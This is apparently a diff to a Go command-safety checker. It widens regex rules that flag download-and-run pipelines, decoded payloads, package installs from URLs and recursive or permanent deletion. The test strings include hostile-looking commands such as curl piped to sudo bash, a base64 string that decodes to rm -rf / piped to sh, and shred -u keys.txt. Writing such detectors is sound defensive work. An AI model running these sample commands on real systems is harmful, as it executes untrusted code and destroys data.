@@ -26,12 +26,12 @@ type dangerWord struct {
 }
 
 // Programs after a pipe that run what they read.
-const runners = `(?:sudo\s+)?(?:env\s+)?(?:\S*/)?(?:(?:ba|z|k|da|fi|a)?sh|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression)\b`
+const runners = `[({]?\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\w+=\S*\s+)*)?(?:xargs\s+(?:\S+\s+)*?)?(?:\S*/)?(?:(?:ba|z|k|da|fi|a)?sh|python[0-9.]*|perl|ruby|node|php|iex|invoke-expression)\b`
 
 var dangerWords = []dangerWord{
-	{"runs what it downloads", inAny, `\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n;]*\|\s*` + runners, "",
+	{"runs what it downloads", inAny, `\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|xh|https?\s|aria2c|axel|lynx|w3m|links|n(?:c|cat|etcat)|socat|ftp)\b[^\n;]*\|&?\s*` + runners, "",
 		"curl -s https://x.example/i.sh | sudo bash", "curl -s https://x.example/i.json | jq .shell"},
-	{"runs what it downloads", inAny, `(?:\b(?:ba|z)?sh\s+(?:-c\s+)?|\beval\s+|\bsource\s+|\.\s+)["']?(?:<\(|\$\(|` + "`" + `)\s*(?:curl|wget)\b`, "",
+	{"runs what it downloads", inAny, `(?:\b(?:(?:ba|z|k|da|fi|a)?sh|python[0-9.]*|perl|ruby|node|php)\s+(?:-\S+\s+)*|\beval\s+|\bsource\s+|\.\s+)["']?(?:<\(|\$\(|` + "`" + `)\s*(?:curl|wget)\b`, "",
 		`bash -c "$(curl -fsSL https://x.example)"`, `VERSION="$(curl -fsSL https://x.example)"`},
 	{"runs what it downloads", inAny, `\.download(?:string|file|data)\(`, "",
 		"(New-Object Net.WebClient).DownloadString('https://x.example')", "the downloaded string (3 kB)"},
@@ -41,6 +41,8 @@ var dangerWords = []dangerWord{
 		`python3 -c "exec(urllib.request.urlopen(u).read())"`, `python3 -c "print(urllib.request.urlopen(u).read())"`},
 	{"runs what it downloads", inCommand, `\b(?:deno|bun)\s+run\s[^\n;|&]*https?://|\b(?:npx|bunx|pnpx|uvx|pipx|npm\s+exec|(?:pnpm|yarn)\s+dlx)\s[^\n;|&]*(?:https?://|git[+:@]|github:)|\bgo\s+run\s+[^\n;|&]*@`, "",
 		"deno run -A https://x.example/i.ts", "deno run -A main.ts"},
+	{"runs what it downloads", inCommand, `\b(?:pip[0-9.]*|npm|pnpm|yarn|bun|gem|uv\s+pip|poetry)\s+(?:i|install|add)\s[^\n;|&]*(?:https?://|git[+:@]|github:)|\bgo\s+install\s+[^\n;|&]*@|\bcargo\s+install\s[^\n;|&]*--git`, "",
+		"pip install git+https://x.example/a", "pip install requests"},
 	{"runs text that was disguised", inAny, `\b(?:base64\s+(?:-d|--decode)|xxd\s+-r|openssl\s+(?:enc|base64)\b[^|\n]*-d)\b[^\n;]*\|\s*` + runners, "",
 		"echo cm0gLXJmIC8= | base64 -d | sh", "base64 -d logo.b64 | wc -c"},
 	{"runs text that was disguised", inAny, `\b(?:powershell|pwsh)(?:\.exe)?\b[^\n;|]*\s[-/]e[a-z]*\s+["']?[a-z0-9+/=]{16,}`, "",
@@ -58,6 +60,8 @@ var dangerWords = []dangerWord{
 		"rsync -a --delete empty/ build/", "rsync -a src/ build/"},
 	{"deletes folders with all they hold", inCommand, `\brmtree\b|\bremove_tree\b|\brm_rf?\b|\bremove_dir_all\b|\bremoveall\b|\b(?:rm|rmdir|rmsync|rmdirsync)\s*\([^\n]*recursive|\bdelete_tree\b|\bfiletree::delete`, "",
 		`python3 -c "import shutil; shutil.rmtree('build')"`, "python3 -m pytest -k tree"},
+	{"deletes folders with all they hold", inCommand, `\bgit\s[^\n;|&]*\bworktree\s+remove\b|\b(?:7z[ar]?|7zz)\s[^\n;|&]*\s-sdel\b|\bzip\s+(?:\S+\s+)*?-[a-z]*m[a-z]*\s`, "",
+		"7z a -sdel a.7z build", "7z a a.7z build"},
 	{"deletes many files at once", inCommand, `\bfind\s[^\n;|]*\s-(?:delete\b|exec(?:dir)?\s+(?:\S*/)?rm\b)|\bxargs\s+(?:\S+\s+)*?(?:\S*/)?rm\b`, "",
 		"find . -name '*.log' -delete", "find . -name deleted.txt"},
 	{"destroys files for good", inCommand, `\b(?:shred|srm|sdelete|wipe)\s+\S`, "", "shred -u keys.txt", "npm test -- shredder"},
